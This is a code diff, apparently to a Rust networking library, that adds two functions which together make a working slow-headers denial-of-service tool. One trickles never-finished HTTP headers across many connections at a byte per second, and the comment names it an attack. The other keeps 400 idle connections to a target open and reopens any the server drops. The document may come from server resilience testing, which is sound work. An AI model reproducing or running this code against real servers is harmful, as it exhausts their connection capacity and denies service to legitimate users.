@@ -151,3 +151,55 @@ pub fn connect_from(source: &str, to: &str) -> std::io::Result<std::net::TcpStre
     socket.connect(&to.into())?;
     Ok(socket.into())
 }
+
+/// Sends a request's headers on every one of `streams` a byte a second,
+/// never finishing them, until `stop` is set: a slow-headers attack.
+pub fn trickle_headers(
+    mut streams: Vec<std::net::TcpStream>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+) {
+    use std::io::Write;
+    let request =
+        b"GET /api/status HTTP/1.1\r\nHost: x\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+    for byte in request {
+        if stop.load(std::sync::atomic::Ordering::SeqCst) {
+            return;
+        }
+        for stream in &mut streams {
+            let _ = stream.write_all(&[*byte]);
+        }
+        std::thread::sleep(std::time::Duration::from_secs(1));
+    }
+}
+
+/// Keeps 400 idle connections to `to` open from `source`, opening a new
+/// one for each the server closes, until `stop` is set; how many it
+/// opened in all.
+pub fn idle_flood(
+    source: &str,
+    to: &str,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+) -> usize {
+    let mut open: Vec<std::net::TcpStream> = Vec::new();
+    let mut opened = 0;
+    while !stop.load(std::sync::atomic::Ordering::SeqCst) {
+        open.retain(|s| {
+            let _ = s.set_nonblocking(true);
+            let mut byte = [0u8; 1];
+            match s.peek(&mut byte) {
+                Ok(0) => false,
+                Ok(_) => true,
+                Err(e) => e.kind() == std::io::ErrorKind::WouldBlock,
+            }
+        });
+        while open.len() < 400 {
+            match connect_from(source, to) {
+                Ok(s) => open.push(s),
+                Err(_) => break,
+            }
+            opened += 1;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    opened
+}
